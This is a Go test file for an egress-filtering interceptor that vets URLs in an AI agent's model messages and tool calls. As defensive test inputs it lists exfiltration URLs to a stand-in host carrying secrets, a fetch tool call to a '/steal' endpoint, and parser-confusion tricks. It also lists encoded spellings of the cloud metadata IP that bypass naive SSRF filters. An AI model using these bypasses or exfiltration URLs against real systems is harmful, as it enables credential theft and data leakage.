package interceptors

import (
	"reflect"
	"strings"
	"testing"

	"github.com/hooks-gateway/hooks-gateway/enforcement"
)

const egressPolicy = `  - name: egress
    type: egress
    allow_hosts: ["*.example.com", "api.github.com", "10.0.0.1", "[2001:db8::1]", "bücher.example"]
    deny_hosts: ["secret.example.com", "169.254.169.254"]
`

// TestEgressURLs is the table of URL edge cases: each text is checked as
// a whole string value at pre_model_call.
func TestEgressURLs(t *testing.T) {
	ic := build(t, egressPolicy)
	for _, tc := range []struct {
		text string
		host string // the host read from the forbidden URL; "" when allowed
	}{
		{"see https://docs.example.com/a?b=c", ""},
		{"https://api.github.com/repos", ""},
		{"HTTPS://API.GITHUB.COM./repos", ""},                    // case and the trailing dot
		{"http://a.b.example.com:8443/x", ""},                    // port ignored, deep subdomain
		{"(see https://docs.example.com).", ""},                  // prose punctuation is not the host
		{"https://user:pw@docs.example.com/", ""},                // userinfo is not the host
		{"https://u@v@docs.example.com/", ""},                    // the last @ ends the userinfo
		{"http://10.0.0.1/", ""},                                 // IP literal as listed
		{"http://[2001:db8:0::1]:80/", ""},                       // IPv6 in another spelling
		{"https://bücher.example/", ""},                          // Unicode host as given
		{"https://docs%2Eexample.com/", ""},                      // percent-encoded dot
		{"example.com and www.evil.test without a scheme", ""},   // out of scope: no scheme
		{"mailto:someone@evil.test is not a URL with //", ""},    // no authority
		{"C:\\Users\\evil.test and c:/tmp", ""},                  // drive letters are not schemes
		{"https://example.com/", "example.com"},                  // *. does not cover the apex
		{"https://evil.test/?q=sk-secret", "evil.test"},          //
		{"https://docs.example.com@evil.test/", "evil.test"},     // userinfo trick
		{"https://docs.example.com:443@evil.test/", "evil.test"}, // userinfo with a port-like part
		{"https://evil.test#@docs.example.com", "evil.test"},     // fragment after the host
		{"https://evil.test\\@docs.example.com/", "evil.test"},   // backslash ends the host for browsers
		{"https://docs.example.com\\@evil.test/", "evil.test"},   // ... but not for RFC 3986 parsers
		{"https:\\\\evil.test/", "evil.test"},                    // backslashes as slashes
		{"https:/evil.test/", "evil.test"},                       // one slash
		{"https:///evil.test/", "evil.test"},                     // three slashes
		{"https://%65vil.test/", "evil.test"},                    // percent-encoded host
		{"https://EVIL.test./x", "evil.test"},                    //
		{"https://secret.example.com/", "secret.example.com"},    // deny wins over *.example.com
		{"http://169.254.169.254/latest/meta-data", "169.254.169.254"},
		{"http://0xA9FEA9FE/", "169.254.169.254"},               // hex IPv4
		{"http://2852039166/", "169.254.169.254"},               // decimal IPv4
		{"http://0251.0376.0251.0376/", "169.254.169.254"},      // octal IPv4
		{"http://169.254.43518/", "169.254.169.254"},            // short form
		{"http://[::ffff:169.254.169.254]/", "169.254.169.254"}, // IPv4-mapped IPv6
		{"http://10.0.0.1.evil.test/", "10.0.0.1.evil.test"},    // not an IP
		{"https://docs.example.com.evil.test/", "docs.example.com.evil.test"},
		{"https://xexample.com/", "xexample.com"},                          // suffix must be a label boundary
		{"https://docs.example.com/?next=https://evil.test/", "evil.test"}, // nested URL
		{"https://bücher.example.evil.test/", "bücher.example.evil.test"},
		{"wss://evil.test/socket", ""}, // scheme denied: the message names the scheme
	} {
		v := intercept(t, ic, at(enforcement.PreModelCall, []any{map[string]any{"role": "user", "content": tc.text}}))
		// Messages never name the host (payload): the host read is
		// checked where the interceptor found it.
		found, _ := ic.(*egressInterceptor).firstForbidden(tc.text)
		switch {
		case tc.host == "" && strings.HasPrefix(tc.text, "wss:"):
			if v.Decision != enforcement.DecisionDeny || v.Message != `a URL scheme is not allowed by policy egress` || found.scheme != "wss" {
				t.Errorf("%q: %+v, want the scheme deny", tc.text, v)
			}
		case tc.host == "":
			if !samePlain(v, enforcement.Allow()) {
				t.Errorf("%q: %+v, want allow", tc.text, v)
			}
		default:
			want := enforcement.Deny("policy:egress_denied", "a URL host is not allowed by policy egress")
			if !samePlain(v, want) || found.host.name != tc.host {
				t.Errorf("%q: %+v (host %q), want %+v (host %q)", tc.text, v, found.host.name, want, tc.host)
			}
		}
	}
}

func TestEgressInvalidHosts(t *testing.T) {
	ic := build(t, "  - name: e\n    type: egress\n    deny_hosts: [evil.test]\n")
	for _, text := range []string{
		"https:// /",                   // empty host
		"https://a.com:x/",             // port that is not one
		"https://%zz/",                 // bad escape
		"https://a%2Fb.com/",           // decodes to a slash
		"http://1.2.3.4.5/",            // too many IPv4 parts
		"http://256.1.1.1/",            // IPv4 part out of range
		"http://1.2.3.09/",             // a number, but not valid octal
		"http://[::1/",                 // unterminated IPv6
		"http://[1.2.3.4]/",            // IPv4 in brackets
		"http://99999999999999999999/", // beyond 32 bits
		"https://" + strings.Repeat("a", maxAuthority) + ".ok.test/", // authority too long to read
	} {
		v := intercept(t, ic, at(enforcement.Input, text))
		if !samePlain(v, enforcement.Deny("policy:egress_denied", "a URL with an invalid host is not allowed by policy e")) {
			t.Errorf("%q: %+v, want the invalid-host deny", text, v)
		}
	}
	// With only a deny list, other hosts pass.
	if v := intercept(t, ic, at(enforcement.Input, "https://ok.test/ http://[::1]:8080/")); !samePlain(v, enforcement.Allow()) {
		t.Errorf("deny list only: %+v", v)
	}
}

// TestEgressAdversarialText checks that texts built to make URLs share
// their ends are still decided (the scan is linear: a quadratic one would
// take minutes here) and fail closed.
func TestEgressAdversarialText(t *testing.T) {
	deny, rewrite := build(t, egressPolicy), build(t, egressRewritePolicy)
	for name, text := range map[string]string{
		"nested backslash URLs": strings.Repeat("http:\\", 100_000),
		"nested slash URLs":     strings.Repeat("https://a.example.com", 30_000),
		"trailing punctuation":  strings.Repeat("x://", 50_000) + strings.Repeat(".", 200_000),
	} {
		if v := intercept(t, deny, at(enforcement.PreModelCall, text)); v.Decision != enforcement.DecisionDeny {
			t.Errorf("%s: %+v, want deny", name, v)
		}
		// A rewrite reads every URL; nested ones are one group.
		v := intercept(t, rewrite, at(enforcement.PreModelCall, text))
		if v.Decision != enforcement.DecisionTransform || !strings.HasPrefix(v.Transform.Value.(string), "https://blocked.invalid/") {
			t.Errorf("%s: rewrite %+v", name, v.Decision)
		}
	}
	if v := intercept(t, deny, at(enforcement.Output, strings.Repeat("a:", 300_000))); v.Decision != enforcement.DecisionAllow {
		t.Errorf("colons without URLs: %+v", v)
	}
}

func TestEgressSchemesAndKeys(t *testing.T) {
	ic := build(t, "  - name: e\n    type: egress\n    schemes: [https, FTP]\n")
	for text, allowed := range map[string]bool{
		"https://any.test/":      true,
		"ftp://files.test/":      true,
		"http://any.test/":       false,
		"file:///etc/passwd":     false,
		"gopher://x.test/":       false,
		"xhttps://any.test/":     false, // a different scheme, not https
		"see:https://any.test/":  true,  // the scheme starts after the colon
		"Https://Any.Test/":      true,
		"no urls at all: just a": true,
	} {
		v := intercept(t, ic, at(enforcement.Output, map[string]any{"content": text}))
		if allowed != (v.Decision == enforcement.DecisionAllow) {
			t.Errorf("%q: %+v, allowed=%v", text, v, allowed)
		}
	}
	// Object keys are looked at too.
	v := intercept(t, ic, at(enforcement.PreToolCall, map[string]any{"http://x.test/": "v"}))
	if v.Decision != enforcement.DecisionDeny {
		t.Errorf("URL in a key: %+v", v)
	}
}

const egressRewritePolicy = `  - name: egress
    type: egress
    points: [pre_model_call, post_model_call, pre_tool_call]
    allow_hosts: ["*.example.com"]
    action: rewrite
    rewrite_to: "https://blocked.invalid/"
`

func TestEgressRewrite(t *testing.T) {
	ic := build(t, egressRewritePolicy)
	c := at(enforcement.PostModelCall, map[string]any{
		"content": "Read https://docs.example.com/a, then https://evil.test/x?k=secret.",
		"tool_calls": []any{map[string]any{"id": "call_1", "name": "fetch", "args": map[string]any{
			"url":   "https://evil.test/steal?d=1",
			"other": "https://docs.example.com/ok",
			"list":  []any{"ftp://docs.example.com/f", "fine"},
		}}},
		"finish_reason": "tool_calls",
	})
	before := jsonOf(t, map[string]any(c))
	v := intercept(t, ic, c)
	if v.Decision != enforcement.DecisionTransform || v.Reason != "policy:egress_rewritten" || v.Transform.Path != "$target" {
		t.Fatalf("verdict %+v", v)
	}
	want := `{"content":"Read https://docs.example.com/a, then https://blocked.invalid/.",` +
		`"finish_reason":"tool_calls","tool_calls":[{"args":{"list":["https://blocked.invalid/","fine"],` +
		`"other":"https://docs.example.com/ok","url":"https://blocked.invalid/"},"id":"call_1","name":"fetch"}]}`
	if got := jsonOf(t, v.Transform.Value); got != want {
		t.Errorf("transform\n got %s\nwant %s", got, want)
	}
	if jsonOf(t, map[string]any(c)) != before {
		t.Errorf("the context was modified in place")
	}
	if strings.Contains(v.Message, "evil") || strings.Contains(v.Message, "secret") {
		t.Errorf("message %q names the URL", v.Message)
	}

	for text, want := range map[string]string{
		"a https://docs.example.com/?next=http://evil.test/ b": "a https://blocked.invalid/ b",
		"https://evil.test": "https://blocked.invalid/",
		"x https://a.example.com y https://b.example.com": "x https://a.example.com y https://b.example.com",
		"(https://evil.test/path)":                        "(https://blocked.invalid/)",
	} {
		v := intercept(t, ic, at(enforcement.PreModelCall, text))
		got := text
		if v.Decision == enforcement.DecisionTransform {
			got = v.Transform.Value.(string)
		}
		if got != want {
			t.Errorf("rewrite(%q) = %q, want %q", text, got, want)
		}
	}
	// A forbidden URL in a key is rewritten too, renaming the member.
	v = intercept(t, ic, at(enforcement.PreToolCall, map[string]any{"see https://evil.test/": "x", "ok": "https://docs.example.com/"}))
	if v.Decision != enforcement.DecisionTransform || jsonOf(t, v.Transform.Value) != `{"ok":"https://docs.example.com/","see https://blocked.invalid/":"x"}` {
		t.Errorf("key: %+v", v)
	}
	// No points configured: rewrite lets the session boundaries through.
	ic = build(t, "  - name: e\n    type: egress\n    deny_hosts: [evil.test]\n    action: rewrite\n")
	if v := intercept(t, ic, at(enforcement.AgentShutdown, map[string]any{"reason": "https://evil.test/"})); !samePlain(v, enforcement.Allow()) {
		t.Errorf("agent_shutdown: %+v", v)
	}
}

func TestEgressProblems(t *testing.T) {
	got := buildProblems(t, `  - name: a
    type: egress
  - name: b
    type: egress
    allow_hosts: ["https://x.com/", "*.*.com", "x.com:443", "*.10.0.0.1", "a b.com", ""]
    deny_hosts: ["user@x.com", "fe80::1%eth0"]
    schemes: ["1http", "ht tp"]
    action: block
  - name: c
    type: egress
    deny_hosts: [x.com]
    rewrite_to: "https://blocked.invalid/"
  - name: d
    type: egress
    schemes: []
    action: rewrite
    points: [agent_startup]
    reason: "bad reason"
`)
	want := []string{
		"policy.yaml:4: interceptors[0]: gives no allow_hosts, deny_hosts or schemes: it would enforce nothing",
		`policy.yaml:8: interceptors[1].allow_hosts[0]: must be a host, not a URL (got "https://x.com/")`,
		`policy.yaml:8: interceptors[1].allow_hosts[1]: must be a host name or IP address, optionally after "*." (no ports, no other wildcards) (got "*.*.com")`,
		`policy.yaml:8: interceptors[1].allow_hosts[2]: must be a host name or IP address, optionally after "*." (no ports, no other wildcards) (got "x.com:443")`,
		`policy.yaml:8: interceptors[1].allow_hosts[3]: "*." applies to domain names, not IP addresses (got "*.10.0.0.1")`,
		`policy.yaml:8: interceptors[1].allow_hosts[4]: is not a valid host (got "a b.com")`,
		`policy.yaml:8: interceptors[1].allow_hosts[5]: is not a valid host (got "")`,
		`policy.yaml:9: interceptors[1].deny_hosts[0]: must be a host, not a URL (got "user@x.com")`,
		`policy.yaml:9: interceptors[1].deny_hosts[1]: must be a host name or IP address, optionally after "*." (no ports, no other wildcards) (got "fe80::1%eth0")`,
		`policy.yaml:10: interceptors[1].schemes[0]: must be a URL scheme such as https (got "1http")`,
		`policy.yaml:10: interceptors[1].schemes[1]: must be a URL scheme such as https (got "ht tp")`,
		`policy.yaml:11: interceptors[1].action: must be deny or rewrite (got "block")`,
		"policy.yaml:15: interceptors[2].rewrite_to: is only used with action: rewrite",
		"policy.yaml:18: interceptors[3].schemes: must list at least one scheme",
		"policy.yaml:20: interceptors[3].points[0]: rewrite cannot run at agent_startup: the spec forbids transforms there",
		`policy.yaml:21: interceptors[3].reason: must be an identifier of letters, digits and _ . : / - such as policy:denied (got "bad reason")`,
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("problems:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
	}
}
